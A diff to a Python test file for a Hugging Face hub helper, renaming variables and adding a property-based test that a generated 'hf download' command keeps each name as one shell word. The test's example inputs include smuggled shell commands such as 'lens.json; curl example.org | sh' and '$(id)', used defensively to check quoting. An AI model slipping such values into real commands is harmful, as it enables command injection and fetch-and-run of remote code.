@@ -4,6 +4,7 @@ huggingface_hub reads its environment when it is imported, so each case is a pro
 """
 
 import json
+import shlex
 import shutil
 import subprocess
 import sys
@@ -13,6 +14,8 @@ from typing import Any
 
 import pyarrow.parquet as pq
 import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
 
 from alens import demo, hub
 from alens.errors import RequestError
@@ -134,8 +137,8 @@ def test_without_a_copy_and_a_hub_it_is_one_line(
         "cache", *arguments, tmp_path / "store", env={"HF_HOME": str(tmp_path / "home"), **reach}
     )
     assert (code, out) == (2, "")
-    assert err.startswith("alens: ")
-    assert err.count("\n") == 1
+    *progress, err = err.splitlines()
+    assert err.startswith("alens: ") and not [line for line in progress if line.startswith("alens: ")]
     assert f"the hub cache {tmp_path}/home/hub has no copy, {why}" in err
     assert says in err
     assert not (tmp_path / "store").exists()
@@ -155,8 +158,8 @@ def test_paths_are_no_ids(text: str) -> None:
 
 @pytest.mark.parametrize("text", ["hf://me/lenses", "hf://me/lenses@main", "hf://me/lenses@refs/pr/1"])
 def test_an_address_is_one_as_a_path_too(text: str) -> None:
-    for given in (text, Path(text)):
-        assert str(hub.address(given)) == text
+    for form in (text, Path(text)):
+        assert str(hub.address(form)) == text
 
 
 @pytest.mark.parametrize("path", ["lenses", "/hf/lenses", "./hf:/a/b", "hf", "https://example.org/me/lenses"])
@@ -183,9 +186,9 @@ def test_a_wrong_address_is_refused(text: str) -> None:
     ],
 )
 def test_what_is_nearly_an_address_is_told_how_to_write_it(text: str, write: str) -> None:
-    for given in (text, Path(text)):
+    for form in (text, Path(text)):
         with pytest.raises(RequestError, match=f"is no address: write {write}$"):
-            hub.address(given)
+            hub.address(form)
 
 
 def test_a_bare_address_is_refused_as_a_path_too() -> None:
@@ -199,3 +202,27 @@ def test_a_bare_address_is_refused_as_a_path_too() -> None:
 def test_a_wrong_revision_is_refused(text: str) -> None:
     with pytest.raises(RequestError, match=r"is no revision: give hf://me/lenses@REVISION"):
         hub.address(text)
+
+
+@given(st.lists(st.text(min_size=1), min_size=3, max_size=3))
+@example(["me/gpt2", "lens.json; curl example.org | sh", "$(id)`id`'"])
+def test_a_command_to_type_has_each_name_as_one_word(names: list[str]) -> None:
+    """As a shell takes it apart, whoever chose the names."""
+    repository, file, revision = names
+    typed = hub.download_command(repository, file, kind="dataset", revision=revision)
+    assert shlex.split(typed) == [
+        "hf",
+        "download",
+        repository,
+        file,
+        "--repo-type",
+        "dataset",
+        "--revision",
+        revision,
+    ]
+
+
+def test_a_command_of_usual_names_is_not_quoted() -> None:
+    assert hub.download_command("me/gpt2", "lens.json", revision="refs/pr/1", more=("--force-download",)) == (
+        "hf download me/gpt2 lens.json --revision refs/pr/1 --force-download"
+    )
